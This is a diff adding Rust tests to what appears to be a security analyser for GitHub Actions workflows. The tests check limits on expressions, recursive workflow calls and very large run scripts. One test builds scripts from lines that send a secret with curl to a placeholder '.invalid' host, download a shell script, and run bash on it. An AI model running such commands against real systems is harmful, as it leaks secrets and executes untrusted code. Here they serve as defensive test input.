@@ -18,6 +18,11 @@ fn too_much_is_refused_with_a_reason() {
     for (what, text, why) in [
         ("10,000 jobs", many_jobs, "more than 1000 jobs"),
         ("10 MB", large, "more than are read"),
+        (
+            "expressions",
+            format!("on: push\nenv: {{A: '{}'}}\njobs: {{}}\n", "${{ a }}".repeat(6_000)),
+            "more than 5000 expressions",
+        ),
         ("aliases", aliases, "more than 200 aliases"),
         (
             "deep",
@@ -55,6 +60,42 @@ fn what_calls_itself_ends() {
         [(".github/workflows/ci.yml", ci.as_str()), ("a/action.yml", action)].into_iter().collect();
     let powers = power::of(&tree, &public());
     assert!(!powers.unknowns().is_empty());
+}
+
+#[test]
+fn calls_that_multiply_are_cut_off() {
+    let calls = |to: &str| -> String {
+        (0..100).map(|n| format!("  j{n}: {{uses: ./.github/workflows/{to}.yml}}\n")).collect()
+    };
+    let chain = |to: &str| format!("on: [push, workflow_call]\njobs:\n{}", calls(to));
+    let files: Vec<(String, String)> = ["a", "b", "c", "d"]
+        .windows(2)
+        .map(|pair| (format!(".github/workflows/{}.yml", pair[0]), chain(pair[1])))
+        .chain([(".github/workflows/d.yml".to_owned(), steps("workflow_call", "- run: a"))])
+        .collect();
+    let tree: Tree = files.iter().map(|(path, text)| (path, text)).collect();
+    let began = Instant::now();
+    let powers = power::of(&tree, &public());
+    assert!(unknowns(&powers).iter().any(|why| why.contains("jobs and steps")));
+    assert!(began.elapsed().as_secs() < 60, "{:?}", began.elapsed());
+}
+
+#[test]
+fn a_script_of_a_million_letters_is_read_in_reasonable_time() {
+    let env = "\n  env: {K: '${{ secrets.K }}'}";
+    for line in [
+        "curl -d $K https://h{n}.invalid/",
+        "curl -o f{n}.sh https://h.invalid/f{n}.sh",
+        "echo $K > out{n}",
+        "bash s{n}.sh",
+    ] {
+        let lines: String =
+            (0..15_000).map(|n| format!("    {}\n", line.replace("{n}", &n.to_string()))).collect();
+        let began = Instant::now();
+        let powers = one(&steps("push", &format!("- run: |\n{lines}{env}")));
+        assert!(!powers.grants().is_empty() || !powers.unknowns().is_empty());
+        assert!(began.elapsed().as_secs() < 30, "{line}: {:?}", began.elapsed());
+    }
 }
 
 #[test]
